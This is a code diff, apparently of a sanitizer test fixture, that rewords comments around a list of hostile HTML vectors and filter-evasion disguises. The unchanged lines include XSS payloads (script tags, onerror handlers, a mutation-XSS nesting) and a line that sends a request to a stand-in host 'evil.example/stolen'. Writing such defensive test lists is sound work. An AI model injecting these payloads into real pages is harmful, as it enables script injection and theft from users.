@@ -1,10 +1,10 @@
-/** Where every payload would send a request; nothing answers there. */
+/** The target of every payload's request; nothing answers there. */
 const EVIL = "https://evil.example";
 
 const RUN = "window.__ran=1";
 const STEAL = `new Image().src='${EVIL}/stolen'`;
 
-/** Scripts, handlers, foreign content, forms, frames, overlays and links: what operators' texts must never carry in. */
+/** Scripts, handlers, foreign content, forms, frames, overlays and links: forbidden in operators' texts. */
 export const HOSTILE_VECTORS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<script src="${EVIL}/a.js"></script>`,
@@ -61,7 +61,7 @@ export const HOSTILE_VECTORS: readonly string[] = [
   `<b><p><xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp></p></b>`,
 ];
 
-/** Ways in which the same is smuggled past filters. */
+/** Disguises that smuggle the same past filters. */
 const DISGUISES: readonly ((vector: string) => string)[] = [
   (vector) => vector,
   (vector) =>
